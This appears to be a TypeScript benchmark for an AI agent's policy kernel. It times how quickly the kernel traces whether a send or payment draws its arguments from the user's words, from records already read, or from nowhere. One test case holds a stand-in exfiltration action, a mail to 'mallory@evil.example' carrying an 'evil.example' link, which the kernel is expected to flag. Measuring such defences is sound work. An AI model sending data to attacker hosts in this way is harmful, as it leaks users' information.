/** Decisions that trace what they are given over everything a run has read, in this process. */
import type { Json } from '@castellan/contracts'
import { type Call, decide, joinAll, label, labelOfAll, ownerLabel, type ReadResult } from '@castellan/kernel'
import { readPolicies } from '../packages/server/src/policy/index.ts'
import { type Figure, percentile } from './report.ts'

const rounds = 2_000
const house = label(['system'], ['owner'])
const page = label(['web:news.example'])
const words =
  'Read the news, then pay Nora Black what I owe her for the tickets (see my payments) plus 12.50, and mail a summary to nora@peer.example, please.'

/** A page, a mailbox and a list of payments, about as large as is asked for; the last result comes last. */
function context(kilobytes: number): ReadResult[] {
  const results: ReadResult[] = []
  for (let size = 0; size < kilobytes * 1_000; size = JSON.stringify(results).length) {
    const n = results.length
    const prose = Array.from(
      { length: 160 },
      (_, at) => `Line ${at} of page ${n}: prices rose, and so did the sea.`,
    )
    const rows = Array.from({ length: 24 }, (_, at) => ({
      id: n * 100 + at,
      to: `DE${10 ** 15 + n * 100 + at}`,
      amount: at * 3 + 0.5,
      subject: `Payment ${at} for the month, from customer ${n}`,
    }))
    const last = [{ id: 7, to: 'DE89370400440532013000', amount: 480, subject: `Tickets of Nora Black` }]
    results.push(
      n % 2 === 0
        ? {
            skill: 'web.fetch',
            args: { url: `https://news.example/${n}` },
            value: { text: prose.join('\n') },
            labels: { '': page },
          }
        : { skill: 'bank.list', args: {}, value: n === 1 ? [...rows, ...last] : rows, labels: { '': house } },
    )
  }
  return results
}

const content = 'The sea rose by a little, and prices did as well; nothing else of note. '.repeat(14)

/** What comes out, and arguments that it comes out of: each is traced another way. */
const cases: Readonly<Record<string, readonly ['allow' | 'ask', (n: number) => { [name: string]: Json }]>> = {
  'in the words': ['allow', (n) => ({ to: 'nora@peer.example', body: `${n} ${content}` })],
  'in a record': [
    'allow',
    (n) => ({ account: 'DE89370400440532013000', amount: 492.5, note: `Nora Black ${n}` }),
  ],
  nowhere: [
    'ask',
    (n) => ({ to: `mallory${n}@evil.example`, body: `see https://evil.example/${n} ${content}` }),
  ],
}

/** Each case over 10 and 200 kB of run context, taken apart before; and what taking the last result apart costs. */
export async function tracingRows(): Promise<Figure[]> {
  const { authorize } = await readPolicies(null)
  const rows: Figure[] = []
  for (const [kilobytes, bar] of [
    [10, 1],
    [200, 5],
  ] as const) {
    const results = context(kilobytes)
    const run = {
      label: joinAll([ownerLabel, ...results.map((each) => labelOfAll(each.labels))]),
      rest: ownerLabel,
    }
    const callOf = (args: { [name: string]: Json }): Call => ({
      principal: ['owner', 'agent:default'],
      skill: {
        name: 'test.act',
        effect: 'send',
        roles: { to: 'target', account: 'account', amount: 'amount', body: 'content', note: 'content' },
      },
      args,
      reaches: 'to' in args ? [{ to: { name: String(args['to']), classes: [] }, what: ['/to'] }] : [],
      // The words come anew from the database with every call.
      run: { ...run, words: [words], results },
    })
    const floor = samples((n) => () => JSON.stringify(results).includes(`nowhere ${n}`))
    for (const [name, [wanted, argsOf]] of Object.entries(cases)) {
      const times = samples((n) => {
        const call = callOf(argsOf(n))
        return () => {
          const { decision } = decide(call, authorize)
          if (decision !== wanted) throw new Error(`expected ${wanted}, not ${decision}`)
        }
      })
      for (const [mark, share] of [
        ['p50', 0.5],
        ['p99', 0.99],
      ] as const) {
        rows.push({
          ...{ name: `decision traced over ${kilobytes} kB, ${name}, ${mark}`, unit: 'ms' },
          value: percentile(times, share),
          floor: { what: 'writing the context out and searching it once', value: percentile(floor, share) },
          ...(mark === 'p99' ? { bar } : {}),
        })
      }
    }
    const anew = samples((n) => {
      const fresh = context(kilobytes)
      const call = callOf(cases['nowhere']?.[1](n) ?? {})
      return () => decide({ ...call, run: { ...call.run, results: fresh } }, authorize)
    }, 100)
    rows.push({
      ...{ name: `decision traced over ${kilobytes} kB that nothing has looked at before, p50`, unit: 'ms' },
      value: percentile(anew, 0.5),
      floor: { what: 'writing the context out and searching it once', value: percentile(floor, 0.5) },
    })
  }
  return rows
}

function samples(prepare: (n: number) => () => unknown, count = rounds): number[] {
  const times: number[] = []
  for (let n = -count / 10; n < count; n++) {
    const run = prepare(n)
    const began = performance.now()
    run()
    if (n >= 0) times.push(performance.now() - began)
  }
  return times
}
